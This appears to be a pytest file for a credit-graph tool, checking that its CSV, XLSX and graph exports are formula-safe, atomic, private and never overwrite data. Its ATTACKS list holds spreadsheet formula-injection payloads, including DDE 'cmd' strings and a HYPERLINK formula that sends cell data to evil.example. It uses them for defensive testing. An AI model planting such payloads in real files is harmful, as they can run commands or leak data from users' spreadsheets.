"""Output files: formula-safe for spreadsheets, exact for machines, atomic,
private when they carry full ids, and never written over data (issue 16.7,
16.10, 16.12)."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from builders import GraphBuilder
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from cli.main import app
from credgraph.outputs import (
    FORMULA_STARTS,
    atomic_write,
    spreadsheet_cell,
    write_spreadsheet_csv,
    write_spreadsheet_xlsx,
)
from credgraph.store import EmbeddedStore

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
]


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, ["--lang", "en", *args])  # the English messages quoted
    return result.exit_code, result.output


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@given(st.text())
def test_a_spreadsheet_cell_never_starts_a_formula(text: str) -> None:
    cell = spreadsheet_cell(text)
    if text.startswith(FORMULA_STARTS):
        assert cell == "'" + text or (cell == text and text.lstrip("+-").replace(".", "").isdigit())
    else:
        assert cell == text


def test_spreadsheet_csv_and_xlsx_neutralise_formulas(tmp_path: Path) -> None:
    rows = [(a, -12.5, "-12.5", "华盛电子") for a in ATTACKS]
    write_spreadsheet_csv(tmp_path / "x.csv", ("value", "n", "s", "name"), rows)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))[1:]
    assert [r[0] for r in read] == ["'" + a for a in ATTACKS]
    assert {(r[1], r[2], r[3]) for r in read} == {("-12.5", "-12.5", "华盛电子")}

    write_spreadsheet_xlsx(
        tmp_path / "x.xlsx", [("结果", ("value", "n"), [(a, -1) for a in ATTACKS])]
    )
    sheet = load_workbook(tmp_path / "x.xlsx")["结果"]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    # (XML keeps no bare CR: the workbook reads it back as a newline)
    assert [c[0].value for c in cells] == ["'" + a.replace("\r", "\n") for a in ATTACKS]
    assert {c[0].data_type for c in cells} == {"s"} and {c[1].value for c in cells} == {-1}


def test_the_reject_report_is_formula_safe(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    lines = ["uscc,name"] + [f'"{a.replace(chr(34), chr(34) * 2)}",坏公司' for a in ATTACKS[:4]]
    (data / "enterprises.csv").write_text("\n".join(lines) + "\n", "utf-8")
    rejects = tmp_path / "rejects.csv"
    code, out = run("load", str(data), "--store", str(tmp_path / "s.db"), "--rejects", str(rejects))
    assert code == 0, out
    with rejects.open(encoding="utf-8", newline="") as fh:
        values = [row["value"] for row in csv.DictReader(fh)]
    assert values and all(v.startswith("'") for v in values)
    assert not any(v.startswith(("=", "@", "+", "-")) for v in values)


def test_atomic_write_leaves_the_old_file_when_it_fails(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n", "utf-8")
    with pytest.raises(RuntimeError), atomic_write(target) as fh:
        fh.write("half a fi")
        raise RuntimeError("disk full")
    assert target.read_text("utf-8") == "old\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with atomic_write(target, private=True) as fh:
        fh.write("new\n")
    assert target.read_text("utf-8") == "new\n" and mode(target) == 0o600


@pytest.fixture
def db(tmp_path: Path) -> Path:
    g = GraphBuilder()
    g.firm("A")
    g.person("张三")
    g.rel("张三", "A", "legal_representative", start="2020-01-01")
    entry = g.entry("E1", "A", "serious_dishonesty", "2024-01-01")
    g.batch.entries[-1] = entry.model_copy(update={"reason": ATTACKS[1]})
    path = tmp_path / "s.db"
    store = EmbeddedStore(path)
    store.upsert(g.batch)
    store.close()
    return path


def test_exports_are_private_and_keep_values_exact(tmp_path: Path, db: Path) -> None:
    ftm, graphml, folder = tmp_path / "e.ftm.json", tmp_path / "g.graphml", tmp_path / "neo"
    assert run("export", "ftm", str(ftm), "--store", str(db))[0] == 0
    assert run("export", "graphml", str(graphml), "--store", str(db))[0] == 0
    assert run("export", "neo4j-import", str(folder), "--store", str(db))[0] == 0
    files = [ftm, graphml, *folder.iterdir()]
    assert {mode(f) & 0o077 for f in files} == {0}
    assert mode(folder / "import.sh") == 0o700
    # machines read the exports: the value is exactly what was loaded
    assert '=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"click\\")' in ftm.read_text("utf-8")
    assert ATTACKS[1].replace('"', '""') in (folder / "list_entries.csv").read_text("utf-8")


def test_neo4j_import_never_writes_over_data(tmp_path: Path, db: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "enterprises.csv").write_text("uscc,name\n", "utf-8")
    for extra in ([], ["--force"]):
        code, out = run("export", "neo4j-import", str(data), "--store", str(db), *extra)
        assert code == 2 and "holds data to load" in out
    assert (data / "enterprises.csv").read_text("utf-8") == "uscc,name\n"

    other = tmp_path / "other"
    other.mkdir()
    (other / "notes.txt").write_text("mine", "utf-8")
    code, out = run("export", "neo4j-import", str(other), "--store", str(db))
    assert code == 2 and "not empty" in out and "--force" in out
    assert sorted(p.name for p in other.iterdir()) == ["notes.txt"]

    earlier = tmp_path / "neo"
    assert run("export", "neo4j-import", str(earlier), "--store", str(db))[0] == 0
    assert run("export", "neo4j-import", str(earlier), "--store", str(db))[0] == 2
    assert run("export", "neo4j-import", str(earlier), "--store", str(db), "--force")[0] == 0
